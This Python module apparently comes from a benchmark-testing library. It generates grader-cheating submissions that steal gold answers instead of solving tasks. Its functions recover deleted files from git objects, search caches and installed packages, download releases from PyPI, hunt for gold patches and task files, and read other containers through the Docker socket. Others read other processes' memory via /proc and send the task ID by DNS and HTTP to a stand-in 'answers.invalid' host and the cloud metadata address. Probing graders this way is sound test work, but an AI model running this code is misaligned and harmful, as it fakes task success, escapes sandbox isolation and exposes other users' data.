"""Attacks by answers that were never written, but found: history, caches, copies, neighbours, the grader's files."""

from __future__ import annotations

import json

from taskgen.attacks.adapt import (
    NAME,
    bare_names,
    main_path,
    top_package,
    with_bodies,
)
from taskgen.attacks.attack import Group, Item, Submission, Target
from taskgen.attacks.payloads import DELEGATE

GROUP = Group("leak")


def _thief(target: Target, sources: str, script: str = "", *items: Item) -> Submission:
    """Bodies that call what ``_sources()`` finds while the tests run, and do nothing where it finds nothing."""
    text = sources.replace("@PATH@", main_path(target)).replace("@BASE@", main_path(target).rpartition("/")[2])
    text = text.replace("@PACKAGE@", top_package(target)).replace("@NAMES@", repr(bare_names(target)))
    text = text.replace("@PROJECT@", str(target.row["repo"]).rpartition("/")[2])
    text = text.replace("@VERSION@", str(target.row["source"]["revision"]))
    stolen = with_bodies(target, [f"return _delegate({NAME}, dict(locals()))"], text + DELEGATE)
    return Submission(items=(*stolen, *items), script=script)


@GROUP.attack(49)
def restored_from_history(target: Target) -> Submission | None:
    """git keeps what was deleted: in parents, reflogs, stashes, and objects that nothing refers to"""
    paths = " ".join(f"'{path}'" for path in target.gold)
    script = f"""for c in $(git rev-list --all --reflog 2>/dev/null) stash@{{0}} ORIG_HEAD FETCH_HEAD HEAD~1; do
  git checkout -q "$c" -- {paths} 2>/dev/null && break
done
git fsck --lost-found >/dev/null 2>&1
true
"""
    sources = '''
def _sources():
    """Every version of the file that a repository near by still has."""
    import subprocess

    def git(*words):
        done = subprocess.run(["git", "-c", "safe.directory=*", *words], capture_output=True, timeout=60)
        return done.stdout.decode("utf-8", "replace")

    try:
        for commit in git("rev-list", "--all", "--reflog", "HEAD").split():
            yield git("show", commit + ":@PATH@")
        for line in git("cat-file", "--batch-all-objects", "--batch-check").splitlines():
            name, kind, _ = line.split()
            if kind == "blob":
                yield git("cat-file", "blob", name)
    except (OSError, subprocess.SubprocessError, ValueError):
        return
'''
    return _thief(target, sources, script)


@GROUP.attack(50)
def taken_from_distributions(target: Target) -> Submission | None:
    """an installed copy, a wheel, an sdist, or the cache of an installer has the whole project"""
    sources = '''
def _sources():
    """The file, out of every archive and folder that packages are kept in."""
    import glob
    import os
    import sys
    import tarfile
    import zipfile

    inner = "@PATH@".removeprefix("src/")
    for folder in [*sys.path, "/env", "/usr/lib/python3", "/usr/local/lib"]:
        for path in glob.glob(os.path.join(folder or ".", "**", inner), recursive=True):
            if os.path.abspath(path) != os.path.abspath(__file__):
                with open(path, encoding="utf-8", errors="replace") as found:
                    yield found.read()
    for root in (".", os.path.expanduser("~/.cache"), "/root/.cache", "/tmp", "/var/cache"):
        for folder, _, names in os.walk(root):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if zipfile.is_zipfile(path):
                        with zipfile.ZipFile(path) as archive:
                            for member in archive.namelist():
                                if member.endswith(inner):
                                    yield archive.read(member).decode("utf-8", "replace")
                    elif name.endswith((".tar.gz", ".tgz", ".tar")):
                        with tarfile.open(path) as archive:
                            for member in archive:
                                if member.name.endswith(inner):
                                    yield archive.extractfile(member).read().decode("utf-8", "replace")
                except Exception:
                    continue
'''
    return _thief(target, sources)


@GROUP.attack(54)
def vendored_twin(target: Target) -> Submission | None:
    """many projects are vendored: in pip, in setuptools, or as copies in other packages"""
    sources = '''
def _sources():
    """All other files of this name, those in vendor folders first."""
    import os
    import sys

    found = []
    for root in {*sys.path, sys.prefix, sys.base_prefix, "/usr/lib", "/usr/share", "/opt"}:
        for folder, folders, names in os.walk(root or "."):
            folders[:] = [f for f in folders if f != "__pycache__"]
            if "@BASE@" in names and os.path.abspath(folder) != os.path.dirname(os.path.abspath(__file__)):
                found.append(os.path.join(folder, "@BASE@"))
    for path in sorted(set(found), key=lambda p: ("vendor" not in p, "@PACKAGE@" not in p, p))[:200]:
        try:
            with open(path, encoding="utf-8") as text:
                yield text.read()
        except (OSError, ValueError):
            continue
'''
    return _thief(target, sources)


@GROUP.attack(55)
def stdlib_twin(target: Target) -> Submission | None:
    """the standard library took some projects in: the same names stand there"""
    sources = '''
def _sources():
    """Modules of the standard library that define one of the names."""
    import os

    names = @NAMES@
    for folder, folders, files in os.walk(os.path.dirname(os.__file__)):
        folders[:] = [f for f in folders if f not in ("site-packages", "test", "idlelib", "__pycache__")]
        for name in files:
            if not name.endswith(".py"):
                continue
            with open(os.path.join(folder, name), encoding="utf-8", errors="replace") as found:
                text = found.read()
            if any("def " + n + "(" in text or "class " + n in text for n in names):
                yield text
'''
    return _thief(target, sources)


@GROUP.attack(56)
def taken_from_registry(target: Target) -> Submission | None:
    """the project is public: one download has the answer, while the agent works or while the tests run"""
    project = str(target.row["repo"]).rpartition("/")[2]
    script = f"timeout 60 pip download --no-deps --no-binary :all: -d /tmp/zz_sdist '{project}' >/dev/null 2>&1\ntrue\n"
    sources = '''
def _sources():
    """The file of the release, downloaded."""
    import io
    import json
    import tarfile
    import urllib.request

    try:
        place = "https://pypi.org/pypi/@PROJECT@/json"
        with urllib.request.urlopen(place, timeout=10) as answer:
            releases = json.load(answer)["releases"]
        files = [f for f in releases.get("@VERSION@", ()) if f["packagetype"] == "sdist"]
        for found in files or [f for r in releases.values() for f in r if f["packagetype"] == "sdist"][-3:]:
            with urllib.request.urlopen(found["url"], timeout=30) as answer:
                archive = tarfile.open(fileobj=io.BytesIO(answer.read()))
            for member in archive:
                if member.name.endswith("@PATH@"):
                    yield archive.extractfile(member).read().decode()
    except Exception:
        return
'''
    return _thief(target, sources, script)


_READ_GOLD = '''
def _sources():
    """What patches and rows of tasks, wherever they lie, add to the file."""
    import json
    import os

    roots = "workspace work grader tests solution oracle mnt home tmp data srv"
    for root in roots.split():
        for folder, _, names in os.walk("/" + root):
            for name in names:
                if not name.endswith((".patch", ".diff", "task.json", ".jsonl", "solve.sh")):
                    continue
                try:
                    with open(os.path.join(folder, name), encoding="utf-8") as found:
                        text = found.read()
                    if name.endswith(".json"):
                        text = json.loads(text).get("patch", "")
                    yield from _added(text)
                except (OSError, ValueError, AttributeError):
                    continue


def _added(patch):
    """The lines that a patch adds to the file, hunk by hunk and all together."""
    import textwrap

    here, hunks = False, []
    for line in patch.split("\\n"):
        if line.startswith("+++ "):
            here = line.endswith("@PATH@")
        elif line.startswith("@@"):
            hunks.append([])
        elif here and hunks and line.startswith("+"):
            hunks[-1].append(line[1:])
    yield "\\n".join(line for hunk in hunks for line in hunk)
    for hunk in hunks:
        yield textwrap.dedent("\\n".join(hunk))
'''


@GROUP.attack(57)
def gold_read(target: Target) -> Submission | None:
    """the row of the task and the gold patch lie somewhere; a grader that mounts them gives them away"""
    script = "find / -xdev \\( -name gold.patch -o -name task.json -o -name 'tests.tar*' \\) 2>/dev/null | head\n"
    return _thief(target, _READ_GOLD, script)


@GROUP.attack(58)
def neighbours_and_engine(target: Target) -> Submission | None:
    """other tasks of the repository have the file whole, and the engine's socket opens every container"""
    sources = '''
def _sources():
    """The file in other places of the machine, then in other containers."""
    import io
    import json
    import os
    import socket
    import tarfile

    inner = "/" + "@PATH@"
    for root in ("/home", "/work", "/mnt", "/tmp", "/var/lib", "/var/tmp", "/root", "/srv"):
        for folder, _, names in os.walk(root):
            if "@BASE@" in names and (folder + "/@BASE@").endswith(inner):
                try:
                    with open(folder + "/@BASE@", encoding="utf-8") as found:
                        yield found.read()
                except (OSError, ValueError):
                    continue

    def ask(path):
        with socket.socket(socket.AF_UNIX) as engine:
            engine.settimeout(10)
            engine.connect("/var/run/docker.sock")
            engine.sendall(("GET %s HTTP/1.0\\r\\n\\r\\n" % path).encode())
            with engine.makefile("rb") as answer:
                return answer.read().partition(b"\\r\\n\\r\\n")[2]

    try:
        for container in json.loads(ask("/containers/json?all=1")):
            data = ask("/containers/%s/archive?path=/workspace%s" % (container["Id"], inner))
            with tarfile.open(fileobj=io.BytesIO(data)) as archive:
                for member in archive:
                    yield archive.extractfile(member).read().decode()
    except Exception:
        return
'''
    return _thief(target, sources)


@GROUP.attack(135)
def neighbours_memory(target: Target) -> Submission | None:
    """processes of the same user are open books: their memory, environment and arguments"""
    sources = '''
def _sources():
    """Texts around the definition's header in the memory of all other processes."""
    import os
    import re

    wanted = [re.compile(rb"(?:def|class) " + n.encode() + rb"\\b") for n in @NAMES@]
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open("/proc/%s/maps" % pid) as maps:
                spans = [line.split()[0].split("-") for line in maps if " r" in line]
            with open("/proc/%s/mem" % pid, "rb", buffering=0) as memory:
                for first, last in spans[:500]:
                    start, size = int(first, 16), int(last, 16) - int(first, 16)
                    memory.seek(start)
                    data = memory.read(min(size, 16 << 20))
                    for pattern in wanted:
                        for match in pattern.finditer(data):
                            text = data[match.start() : match.start() + 8000].partition(b"\\0")[0]
                            yield text.decode("utf-8", "replace")
        except (OSError, ValueError, OverflowError):
            continue
'''
    script = "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -i gold\ntrue\n"
    return _thief(target, sources, script)


@GROUP.attack(137)
def asked_outside(target: Target) -> Submission | None:
    """the code sends the task to a server, by HTTP or in names that it looks up, and runs what comes back"""
    sources = f'''
def _sources():
    """What a helper on the network answers."""
    import base64
    import json
    import os
    import socket
    import urllib.request

    question = json.dumps({{"task": {json.dumps(str(target.row["instance_id"]))}, "names": @NAMES@}}).encode()
    coded = base64.b32encode(question).decode().strip("=").lower()
    try:
        socket.getaddrinfo(coded[:60] + ".answers.invalid", 80)
    except OSError:
        pass
    for host in ("answers.invalid", "host.docker.internal:8099", "169.254.169.254", "10.0.2.2"):
        place = "http://%s/" % host
        try:
            with urllib.request.urlopen(urllib.request.Request(place, question), timeout=3) as answer:
                yield answer.read().decode()
        except (OSError, ValueError):
            continue
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        os.environ.get(name)
'''
    return _thief(target, sources)
